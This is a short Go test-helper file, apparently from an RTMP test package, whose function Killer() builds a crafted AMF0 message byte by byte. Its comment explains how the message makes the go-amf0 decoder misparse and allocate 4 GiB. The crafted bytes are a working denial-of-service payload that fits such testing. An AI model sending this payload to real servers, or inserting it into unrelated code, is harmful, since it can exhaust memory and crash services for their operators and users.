package rtmptest

import (
	"bytes"
	"encoding/binary"
)

// Killer is an ECMA array of two objects, one string in them: valid, and small. go-amf0 decodes the
// second object without its values, goes on in the middle of the string, and there finds an array
// of 0x10000000 elements, for which it allocates 4 GiB.
func Killer() []byte {
	text := append(bytes.Repeat([]byte("."), 513), 0, 0, 9)                  // to go-amf0 a key, and the object's end
	text = append(text, 0, 1, 'x', 5)                                        // "x": null
	text = append(text, 0, 1, 'y', 0x0a, 0x10, 0, 0, 0)                      // "y": the array
	b := []byte{8, 0, 0, 0, 2}                                               // [
	b = append(b, 0, 1, 'a', 3, 0, 0, 9)                                     // "a": {},
	b = append(b, 0, 1, 'b', 3, 0, 1, 'k', 2)                                // "b": {"k":
	b = append(binary.BigEndian.AppendUint16(b, uint16(len(text))), text...) // text
	return append(b, 0, 0, 9, 0, 0, 9)                                       // }]
}
